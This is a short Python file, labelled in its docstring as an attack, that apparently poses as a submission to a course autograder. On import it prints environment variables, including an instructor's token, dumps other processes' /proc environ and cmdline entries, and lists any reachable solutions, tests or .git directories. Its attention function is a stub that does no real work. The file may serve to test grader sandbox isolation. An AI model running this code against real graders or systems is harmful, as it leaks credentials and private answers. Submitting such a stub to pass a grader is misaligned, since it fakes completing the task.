"""Attack: print whatever of the grader's secrets is reachable: its environment (a token
the instructor set), other processes' command lines and environments, the mount table's
sources, another checkout of the course's solutions on the same machine."""

import os
from pathlib import Path

import autograder


def _show(label, text):
    if text:
        print(f"LEAK {label}: {text[:300]}")


for key, value in os.environ.items():
    _show(f"env {key}", value)
for proc in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            _show(f"{proc}/{name}", (proc / name).read_bytes().replace(b"\0", b" ").decode())
        except OSError:
            pass
kit = Path(autograder.__file__).resolve().parents[1]
candidates = [kit / "solutions", kit / "tests", kit / ".git"]
for top in ("/work", "/home", "/root", "/srv", "/opt", "/autograder", "/tmp"):
    try:
        candidates += [p for p in Path(top).glob("*/solutions")]
        candidates += [p for p in Path(top).glob("*/*/solutions")]
    except OSError:
        pass
for path in candidates:
    try:
        _show(f"readable {path}", ", ".join(sorted(os.listdir(path))))
    except OSError:
        pass


def scaled_dot_product_attention(q, k, v, mask=None):
    return q, None
